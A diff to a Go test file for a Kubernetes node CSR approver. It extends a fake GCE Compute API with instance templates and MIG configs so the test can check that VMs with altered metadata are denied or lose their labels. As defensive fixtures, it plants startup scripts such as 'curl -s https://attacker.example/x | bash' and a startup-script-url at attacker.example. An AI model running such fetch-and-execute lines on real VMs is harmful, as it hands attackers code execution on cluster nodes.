@@ -15,6 +15,7 @@ import (
 	"fmt"
 	"maps"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
@@ -36,6 +37,7 @@ import (
 	certutil "k8s.io/client-go/util/cert"
 	"k8s.io/client-go/util/keyutil"
 
+	"github.com/nodegen/nodegen/internal/gce"
 	"github.com/nodegen/nodegen/internal/k8sdecode"
 	"github.com/nodegen/nodegen/internal/kubeadm"
 	"github.com/nodegen/nodegen/internal/layout"
@@ -53,17 +55,23 @@ const kubeadmNodeGroup = testcp.KubeadmNodeBootstrapGroup
 
 // fakeCompute serves (gceNamespace puts it at the production addresses)
 // the metadata server's service-account token and the Compute API's
-// instances.get, instances.getGuestAttributes and zonal
-// instanceGroupManagers.listPerInstanceConfigs, in the real
-// API's shapes: creationTimestamp in the API's own offset form, the id as
-// a decimal string, the created-by metadata item a MIG writes, the 404
-// error body; guest attributes as the REST reference
-// (compute/docs/reference/rest/v1/instances/getGuestAttributes) has them,
-// GET with variableKey "<namespace>/<key>" answering a GuestAttributes
-// resource with variableKey and variableValue, 404 for a key the VM has
-// not written; per-instance configs as POST with an empty body, items
-// named after their instance with preservedState, in pages
-// (nextPageToken, pageToken) of configPage items.
+// instances.get, instances.getGuestAttributes, instanceTemplates.get,
+// zonal instanceGroupManagers.get and
+// instanceGroupManagers.listPerInstanceConfigs, in the real API's shapes:
+// creationTimestamp in the API's own offset form, the id as a decimal
+// string, the created-by and instance-template metadata items a MIG
+// writes over its template's, the 404 error body; guest attributes as
+// the REST reference (compute/docs/reference/rest/v1/instances/getGuestAttributes)
+// has them, GET with variableKey "<namespace>/<key>" answering a
+// GuestAttributes resource with variableKey and variableValue, 404 for a
+// key the VM has not written; a MIG with its allInstancesConfig (metadata
+// and labels over the template's); per-instance configs as POST with an
+// empty body, items named after their instance with preservedState, in
+// pages (nextPageToken, pageToken) of configPage items. A VM's metadata
+// is what the MIG made it from: its template's, then the all-instances
+// config's, then its per-instance config's, fixed when the VM is made
+// (set); a config changed or removed later changes the VM only when the
+// test says so (setMetadata), as a MIG applies it only on an update.
 type fakeCompute struct {
 	project string
 	token   string
@@ -73,15 +81,30 @@ type fakeCompute struct {
 	// configs are the per-instance configs of a MIG, by zone + "/" +
 	// MIG: instance name -> preserved metadata.
 	configs map[string][]fakeConfig
-	asked   []string
-	nextID  uint64
+	// templates are the instance templates, by name; migTemplate the
+	// current template of each MIG, by zone + "/" + MIG; allInstances the
+	// metadata of each MIG's all-instances config.
+	templates    map[string]fakeTemplate
+	migTemplate  map[string]string
+	allInstances map[string]map[string]string
+	asked        []string
+	nextID       uint64
 	// unreadable are the instances (zone + "/" + name) whose instances.get
 	// answers 503, as the Compute API does when it cannot serve.
 	unreadable map[string]bool
 }
 
+// fakeConfig is a per-instance config: Metadata nil is one that only
+// names the instance, as createInstances leaves (no preservedState);
+// an empty map one whose preservedState holds an empty metadata map.
 type fakeConfig struct {
 	Name     string
+	Metadata map[string]string
+}
+
+// fakeTemplate is an instance template: its labels and metadata.
+type fakeTemplate struct {
+	Labels   map[string]string
 	Metadata map[string]string
 }
 
@@ -93,19 +116,56 @@ type fakeInstance struct {
 	Status  string
 	Created time.Time
 	MIG     string // the MIG that created it; "" none
+	// Template is the instance template it was made from ("" the MIG's
+	// current one).
+	Template string
+	// Metadata is its metadata but the MIG's two items; set fills it in.
+	Metadata map[string]string
 	// ID is the instance's id: set calls give each new instance its own.
 	ID uint64
 	// Guest holds the guest attributes the VM wrote, by "<namespace>/<key>".
 	Guest map[string]string
 }
 
-func newFakeCompute(t *testing.T, project string) *fakeCompute {
-	f := &fakeCompute{project: project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{}, configs: map[string][]fakeConfig{}, unreadable: map[string]bool{}}
+// newFakeCompute returns the fake with an instance template for each
+// cloud group of src, its rendered kube-env and startup script in files,
+// the current one of each of the group's MIGs.
+func newFakeCompute(t *testing.T, src *model.Source, files layout.Files) *fakeCompute {
+	f := &fakeCompute{project: src.Cluster.GCP.Project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{},
+		configs: map[string][]fakeConfig{}, unreadable: map[string]bool{},
+		templates: map[string]fakeTemplate{}, migTemplate: map[string]string{}, allInstances: map[string]map[string]string{}}
+	for _, g := range src.CloudGroups() {
+		md := map[string]string{}
+		for _, m := range src.InstanceTemplate(g).Properties.Metadata {
+			switch {
+			case !m.Rendered:
+				md[m.Key] = m.Value
+			case m.Key == model.MetadataKubeEnv:
+				md[m.Key] = string(files[layout.KubeEnvPath(g.Name)])
+			case m.Key == model.MetadataStartupScript:
+				md[m.Key] = string(files[layout.StartupScriptPath(g.Name)])
+			default:
+				t.Fatalf("group %s: a rendered metadata item %s the fake does not know", g.Name, m.Key)
+			}
+			if md[m.Key] == "" {
+				t.Fatalf("group %s: no rendered %s", g.Name, m.Key)
+			}
+		}
+		// Terraform's name_prefix: the prefix and a unique suffix.
+		name := src.Cluster.TemplatePrefix(g) + "20261201093000123400000001"
+		f.templates[name] = fakeTemplate{Labels: gce.Labels(src.Cluster.Name, g.Name, g.Labels), Metadata: md}
+		for _, z := range g.Zones {
+			f.migTemplate[z+"/"+src.Cluster.MIGName(g, z)] = name
+		}
+	}
 	return f
 }
 
 // set creates (or recreates) instance zone/name, with a new id unless i
-// has one, and returns the id.
+// has one, and returns the id. An instance of a MIG is made from i's
+// template, or else the MIG's current one, its metadata that template's
+// with the MIG's all-instances config and its per-instance config for
+// the name over it, unless i gives its metadata.
 func (f *fakeCompute) set(zone, name string, i fakeInstance) uint64 {
 	f.mu.Lock()
 	defer f.mu.Unlock()
@@ -113,8 +173,53 @@ func (f *fakeCompute) set(zone, name string, i fakeInstance) uint64 {
 		f.nextID++
 		i.ID = 4105349117032215000 + f.nextID
 	}
+	if i.MIG != "" && i.Template == "" {
+		i.Template = f.migTemplate[zone+"/"+i.MIG]
+	}
+	if i.Metadata == nil {
+		i.Metadata = maps.Clone(f.templates[i.Template].Metadata)
+		if i.Metadata == nil {
+			i.Metadata = map[string]string{}
+		}
+		maps.Copy(i.Metadata, f.allInstances[zone+"/"+i.MIG])
+		for _, c := range f.configs[zone+"/"+i.MIG] {
+			if c.Name == name {
+				maps.Copy(i.Metadata, c.Metadata)
+			}
+		}
+	}
 	f.instances[zone+"/"+name] = i
 	return i.ID
+}
+
+// setMetadata sets metadata key of instance zone/name to value ("" removes
+// it), as a MIG's update applies a config, or instances.setMetadata.
+func (f *fakeCompute) setMetadata(zone, name, key, value string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	i := f.instances[zone+"/"+name]
+	i.Metadata = maps.Clone(i.Metadata)
+	if value == "" {
+		delete(i.Metadata, key)
+	} else {
+		i.Metadata[key] = value
+	}
+	f.instances[zone+"/"+name] = i
+}
+
+// setAllInstances sets the metadata of MIG zone/mig's all-instances config.
+func (f *fakeCompute) setAllInstances(zone, mig string, metadata map[string]string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.allInstances[zone+"/"+mig] = metadata
+}
+
+// removeConfig deletes MIG zone/mig's per-instance config for name
+// (deletePerInstanceConfigs), which leaves the VM as it is.
+func (f *fakeCompute) removeConfig(zone, mig, name string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.configs[zone+"/"+mig] = slices.DeleteFunc(f.configs[zone+"/"+mig], func(c fakeConfig) bool { return c.Name == name })
 }
 
 // writeGuest is what the VM zone/name does through its metadata server
@@ -186,12 +291,11 @@ func (f *fakeCompute) listConfigs(w http.ResponseWriter, r *http.Request, zone, 
 	body := map[string]any{}
 	var items []map[string]any
 	for _, c := range all[start:end] {
-		items = append(items, map[string]any{
-			"name":           c.Name,
-			"fingerprint":    "ZWFnZXI=",
-			"preservedState": map[string]any{"metadata": c.Metadata},
-			"status":         "EFFECTIVE",
-		})
+		item := map[string]any{"name": c.Name, "fingerprint": "ZWFnZXI=", "status": "EFFECTIVE"}
+		if c.Metadata != nil {
+			item["preservedState"] = map[string]any{"metadata": c.Metadata}
+		}
+		items = append(items, item)
 	}
 	if len(items) > 0 {
 		body["items"] = items
@@ -224,6 +328,31 @@ func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
 			f.listConfigs(w, r, zone, mig)
 			return
 		}
+		if tmpl, found := f.migTemplate[zone+"/"+mig]; found && r.Method == http.MethodGet {
+			f.asked = append(f.asked, "mig "+zone+"/"+mig)
+			igm := map[string]any{"kind": "compute#instanceGroupManager", "name": mig, "baseInstanceName": strings.TrimSuffix(mig, "-"+zone),
+				"instanceTemplate":   "https://www.googleapis.com/compute/v1/projects/" + f.project + "/global/instanceTemplates/" + tmpl,
+				"allInstancesConfig": map[string]any{"properties": map[string]any{"labels": map[string]string{"team": "ml"}}}}
+			if md := f.allInstances[zone+"/"+mig]; len(md) > 0 {
+				igm["allInstancesConfig"] = map[string]any{"properties": map[string]any{"metadata": md, "labels": map[string]string{"team": "ml"}}}
+			}
+			reply(w, http.StatusOK, igm)
+			return
+		}
+	}
+	if name, isTemplate := strings.CutPrefix(r.URL.Path, "/compute/v1/projects/"+f.project+"/global/instanceTemplates/"); isTemplate && r.Method == http.MethodGet {
+		f.asked = append(f.asked, "template "+name)
+		tmpl, found := f.templates[name]
+		if !found {
+			reply(w, http.StatusNotFound, map[string]any{"error": map[string]any{"code": 404,
+				"message": "The resource 'projects/" + f.project + "/global/instanceTemplates/" + name + "' was not found"}})
+			return
+		}
+		reply(w, http.StatusOK, map[string]any{"kind": "compute#instanceTemplate", "name": name,
+			"properties": map[string]any{"machineType": "n2-standard-8", "labels": tmpl.Labels,
+				"disks":    []any{map[string]any{"boot": true, "initializeParams": map[string]any{"labels": map[string]string{"disk": "boot"}}}},
+				"metadata": map[string]any{"kind": "compute#metadata", "items": metadataItems(tmpl.Metadata)}}})
+		return
 	}
 	zone, name, ok2 := strings.Cut(rest, "/instances/")
 	name, guest := strings.CutSuffix(name, "/getGuestAttributes")
@@ -256,14 +385,27 @@ func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
 		"zone":              "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone,
 		"status":            i.Status,
 		"machineType":       "https://www.googleapis.com/compute/v1/projects/" + f.project + "/zones/" + zone + "/machineTypes/n2-standard-8",
-		"metadata":          map[string]any{"kind": "compute#metadata", "items": []map[string]string{{"key": "kube-env", "value": "x"}}},
+	}
+	md := maps.Clone(i.Metadata)
+	if md == nil {
+		md = map[string]string{}
 	}
 	if i.MIG != "" {
-		body["metadata"] = map[string]any{"kind": "compute#metadata", "items": []map[string]string{
-			{"key": "created-by", "value": "projects/" + projectNumber + "/zones/" + zone + "/instanceGroupManagers/" + i.MIG},
-			{"key": "kube-env", "value": "x"}}}
+		md["created-by"] = "projects/" + projectNumber + "/zones/" + zone + "/instanceGroupManagers/" + i.MIG
+		md["instance-template"] = "projects/" + projectNumber + "/global/instanceTemplates/" + i.Template
 	}
+	body["metadata"] = map[string]any{"kind": "compute#metadata", "fingerprint": "bGFiZWxz", "items": metadataItems(md)}
 	reply(w, http.StatusOK, body)
+}
+
+// metadataItems is metadata as the Compute API lists it: items of key and
+// value, by key.
+func metadataItems(md map[string]string) []map[string]string {
+	var items []map[string]string
+	for _, k := range slices.Sorted(maps.Keys(md)) {
+		items = append(items, map[string]string{"key": k, "value": md[k]})
+	}
+	return items
 }
 
 // approverEnv is the state of the approver test.
@@ -274,6 +416,7 @@ type approverEnv struct {
 	script  string   // the approver's script, in a file
 	env     []string // its container's environment
 	sa      *testcp.User
+	files   layout.Files // the source rendered
 }
 
 // csrRequest returns the PEM of a kubelet client CSR for system:node:name
@@ -453,7 +596,7 @@ func TestNodeCSRApprover(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	e := &approverEnv{src: l.Fleet.Clusters[0], renewer: &renewerEnv{src: l.Fleet.Clusters[0]}}
+	e := &approverEnv{src: l.Fleet.Clusters[0], renewer: &renewerEnv{src: l.Fleet.Clusters[0]}, files: files}
 	e.renewer.renewal = l.Fleet.Clusters[0].Renewal()
 	for _, o := range mustDecode(t, files[layout.JoinTokenRenewerPath]) {
 		switch o := o.(type) {
@@ -734,7 +877,7 @@ func labelAs(t *testing.T, e *approverEnv, u *testcp.User, name, providerID stri
 // signs approved CSRs and auto-approves what kubeadm's bindings allow.
 func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	cm := e.cp.StartControllerManager(t, testcp.CSRSigningController, testcp.CSRApprovingController)
-	f := newFakeCompute(t, e.src.Cluster.GCP.Project)
+	f := newFakeCompute(t, e.src, e.files)
 	zone, mig := "us-central1-a", "renew-work-us-central1-a"
 	now := time.Now()
 	abID := f.set(zone, "renew-work-ab12", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
@@ -752,6 +895,28 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	f.addConfig(zone, mig, "renew-work-gone", map[string]string{"role": "x"})
 	f.addConfig(zone, mig, "renew-work-ab1", map[string]string{"name": "renew-work-ab"})
 	f.addConfig(zone, mig, "renew-work-pi01", map[string]string{"startup-script": "curl -s https://attacker.example/x | bash"})
+	// What a VM runs comes from its metadata. A VM whose metadata an
+	// update of the MIG changed after it was made (a startup-script, a
+	// user-data the template does not set, guest attributes off); one the
+	// MIG made while a per-instance config gave it a startup-script, the
+	// config deleted since (deletePerInstanceConfigs leaves the VM as it
+	// is); and, approved, one made by createInstances, which leaves a
+	// per-instance config that only names it, in either shape.
+	foreign := "#!/bin/bash\ncurl -s https://attacker.example/x | bash\n"
+	for name, kv := range map[string][2]string{"renew-work-md01": {model.MetadataStartupScript, foreign}, "renew-work-ud01": {"user-data", "#cloud-config\nruncmd: [id]\n"},
+		"renew-work-ga01": {"enable-guest-attributes", "FALSE"}} {
+		f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+		f.setMetadata(zone, name, kv[0], kv[1])
+	}
+	f.addConfig(zone, mig, "renew-work-pr01", map[string]string{model.MetadataStartupScript: foreign})
+	f.set(zone, "renew-work-pr01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+	f.removeConfig(zone, mig, "renew-work-pr01")
+	f.addConfig(zone, mig, "renew-work-ci01", nil)
+	f.addConfig(zone, mig, "renew-work-ci02", map[string]string{})
+	ciIDs := map[string]uint64{}
+	for _, name := range []string{"renew-work-ci01", "renew-work-ci02"} {
+		ciIDs[name] = f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+	}
 	// Ready Nodes: an on-prem server, a control-plane node, a cloud node.
 	for _, n := range []string{"onprem-gpu-1", "cp-1", "renew-work-old1"} {
 		e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"`+n+`"}}`)
@@ -786,7 +951,11 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	ask("renew-work-st01", "Denied", "not a fresh VM")
 	ask("renew-work-tm01", "Denied", "instance us-central1-a/renew-work-tm01 is STOPPING, not RUNNING")
 	ask("renew-work-xm01", "Denied", "was not created by MIG renew-work-us-central1-a (created-by: projects/123456789012/zones/us-central1-a/instanceGroupManagers/someone-elses-mig)")
-	ask("renew-work-pi01", "Denied", "MIG renew-work-us-central1-a holds a per-instance config for renew-work-pi01")
+	ask("renew-work-pi01", "Denied", "MIG renew-work-us-central1-a holds a per-instance config for renew-work-pi01 that preserves state")
+	ask("renew-work-md01", "Denied", "instance us-central1-a/renew-work-md01 has metadata startup-script other than that of its instance template renew-work-20261201093000123400000001")
+	ask("renew-work-ud01", "Denied", "instance us-central1-a/renew-work-ud01 has metadata user-data, which the group template does not set")
+	ask("renew-work-ga01", "Denied", "instance us-central1-a/renew-work-ga01 has metadata enable-guest-attributes other than the group template")
+	ask("renew-work-pr01", "Denied", "instance us-central1-a/renew-work-pr01 has metadata startup-script other than that of its instance template")
 	askAs := func(name, decision, message string, request []byte) {
 		wants = append(wants, want{createCSR(t, joiner, request, model.KubeletClientSigner), name, decision, message})
 	}
@@ -794,6 +963,11 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	caVM := newVM(t)
 	f.writeGuest(zone, "renew-ca-a1b2", model.KubeletKeyAttribute, caVM.published(caID))
 	askAs("renew-ca-a1b2", "Approved", "instance projects/renew-project/zones/us-central1-a/instances/renew-ca-a1b2 is RUNNING", caVM.csr(t, "renew-ca-a1b2"))
+	for name, id := range ciIDs {
+		vm := newVM(t)
+		f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
+		askAs(name, "Approved", "instance projects/renew-project/zones/us-central1-a/instances/"+name+" is RUNNING", vm.csr(t, name))
+	}
 	// The duplicate race: a holder of the join token files a CSR for a
 	// booting VM's name before the VM; the VM's own is approved, the
 	// thief's denied.
@@ -826,12 +1000,31 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 		t.Fatal(err)
 	}
 	const recheck = 2 * time.Second
-	script, err := scripttest.WithConstants(shipped, map[string]string{"POLL_SECONDS": "1", "RECHECK_SECONDS": strconv.Itoa(int(recheck / time.Second))})
+	// In its pod the approver writes its decisions with curl, its
+	// ServiceAccount's token and the CA the kubelet mounts: here the same
+	// files, the API server's own certificate as the CA.
+	saDir := t.TempDir()
+	serving, err := os.ReadFile(filepath.Join(e.cp.Dir, "certs", "apiserver.crt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(saDir, "token"), []byte(e.sa.Token), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(saDir, "ca.crt"), serving, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	apiURL, err := url.Parse(e.cp.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	script, err := scripttest.WithConstants(shipped, map[string]string{"POLL_SECONDS": "1", "RECHECK_SECONDS": strconv.Itoa(int(recheck / time.Second)), "SA_DIR": saDir})
 	if err != nil {
 		t.Fatal(err)
 	}
 	cmd := gceNamespace(t, http.HandlerFunc(f.serve), e.cp.URL).Command("bash", writeScript(t, string(script)))
-	cmd.Env = append(slices.Clone(e.env), "PATH="+os.Getenv("PATH"), "HOME="+t.TempDir(), "KUBECONFIG="+e.sa.Kubeconfig)
+	cmd.Env = append(slices.Clone(e.env), "PATH="+os.Getenv("PATH"), "HOME="+t.TempDir(), "KUBECONFIG="+e.sa.Kubeconfig,
+		"KUBERNETES_SERVICE_HOST="+apiURL.Hostname(), "KUBERNETES_SERVICE_PORT="+apiURL.Port())
 	var logs syncBuffer
 	cmd.Stdout, cmd.Stderr = &logs, &logs
 	// A group of its own, so that the cleanup stops the kubectl the script
@@ -880,6 +1073,9 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	// older CSRs holds a VM's is testFlood's measure.)
 	decided(wants)
 	n := len(wants)
+	if !strings.Contains(logs.String(), "decisions written with curl to "+e.cp.URL) {
+		t.Errorf("the approver does not write its decisions with curl, as in its pod")
+	}
 
 	// A fresh VM joins: its CSR is approved and signed within the join's
 	// TLS-bootstrap timeout.
@@ -1024,12 +1220,49 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 		return ""
 	})
 	t.Logf("renew-work-ab12 lost %s %v after the per-instance config was added (Nodes checked again every %v)", model.VerifiedGroupLabel, time.Since(added).Round(time.Millisecond), recheck)
+	// The config is deleted (its VM's metadata never changed): the Node
+	// does not get the label back, since the VM may have booted with it.
+	f.removeConfig(zone, mig, "renew-work-ab12")
+	// A labelled Node whose instance's metadata an update changed loses
+	// the label.
+	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-ci01"},"spec":{"providerID":"`+gceID(e, zone, "renew-work-ci01")+`"}}`)
+	eventually(t, 30*time.Second, "the approver labelling renew-work-ci01, made by createInstances", func() string {
+		if l := label("renew-work-ci01"); l != "work" {
+			return fmt.Sprintf("renew-work-ci01 %q", l)
+		}
+		return ""
+	})
+	f.setMetadata(zone, "renew-work-ci01", "startup-script-url", "https://attacker.example/x")
+	eventually(t, 30*time.Second, "the approver removing the label of renew-work-ci01, whose metadata now has a startup-script-url", func() string {
+		if l := label("renew-work-ci01"); l != "" {
+			return fmt.Sprintf("renew-work-ci01 %q", l)
+		}
+		return ""
+	})
 	time.Sleep(3 * recheck) // more checks
-	for name, want := range map[string]string{"renew-work-ab12": "", "renew-work-du01": "work", "renew-ca-a1b2": "ca"} {
+	for name, want := range map[string]string{"renew-work-ab12": "", "renew-work-du01": "work", "renew-ca-a1b2": "ca", "renew-work-ci01": ""} {
 		if l := label(name); l != want {
 			t.Errorf("after the re-checks, %s has %s=%q; want %q", name, model.VerifiedGroupLabel, l, want)
 		}
 	}
+
+	// The MIG's all-instances config gets a startup-script: a VM made
+	// since runs it, and one made before but asking now is refused too,
+	// since the MIG may apply the config to it at any update.
+	f.setAllInstances(zone, mig, map[string]string{model.MetadataStartupScript: foreign})
+	var aic []want
+	for _, name := range []string{"renew-work-ai01", "renew-work-ai02"} {
+		id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-5 * time.Second), MIG: mig})
+		if name == "renew-work-ai02" {
+			f.setMetadata(zone, name, model.MetadataStartupScript, f.templates[f.migTemplate[zone+"/"+mig]].Metadata[model.MetadataStartupScript])
+		}
+		vm := newVM(t)
+		f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
+		aic = append(aic, want{createCSR(t, joiner, vm.csr(t, name), model.KubeletClientSigner), name, "Denied", ""})
+	}
+	aic[0].message = "instance us-central1-a/renew-work-ai01 has metadata startup-script other than that of its instance template"
+	aic[1].message = "the all-instances config of MIG us-central1-a/renew-work-us-central1-a sets metadata over the template"
+	decided(aic)
 	if strings.Contains(logs.String(), "ya29.") || strings.Contains(logs.String(), joiner.Token) {
 		t.Error("the approver logged a token")
 	}
